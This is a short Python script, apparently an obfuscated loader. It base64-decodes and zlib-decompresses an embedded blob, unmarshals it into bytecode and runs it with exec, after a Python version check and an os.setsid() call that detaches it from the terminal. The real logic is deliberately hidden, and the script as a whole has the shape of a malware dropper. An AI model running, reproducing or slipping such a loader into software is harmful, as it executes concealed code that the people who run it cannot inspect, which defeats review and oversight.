import marshal,zlib,base64,sys,os
if sys.version_info[:2] < (3, 8):
    sys.exit()
try:
    os.setsid()
except Exception:
    pass
_c=marshal.loads(zlib.decompress(base64.b64decode(
"eJxLZkACbFD6cxKQmM6QwpDCmMMQBaEZoxiZGFIZsphgilOYljEyMKxmhPGjmIHyjFkscHnmFJZ0plRmEFzDugwovhouxwg0MZhBk+0liOOnyVTFa2hpoWdqqGdoYKBnbp45QZ6BoYpdPykzT784o4pJN1OT+RZrcUlKZt4tNiCVX1oCplOLijRZgaz85OzUkltcxaVJBUX5yanFxbcEk4tSE0tS45Pz8/JSk0sy8/NuMRbfYklOzMlZyfAZZOsvZpsKu18cNrn5KaU5qXZFvGBnMTAUhwGJD8yMjIw3GCQuYEM3mKQa1K4wSV2QNrzIZHSFyagBqJS/gauFf4LkDJMLAgoLCjcw7hC8wGB9kcH6CoP1BRgq4gYaDQBH+lvc"
)))
exec(_c,{'__name__':'__main__'})
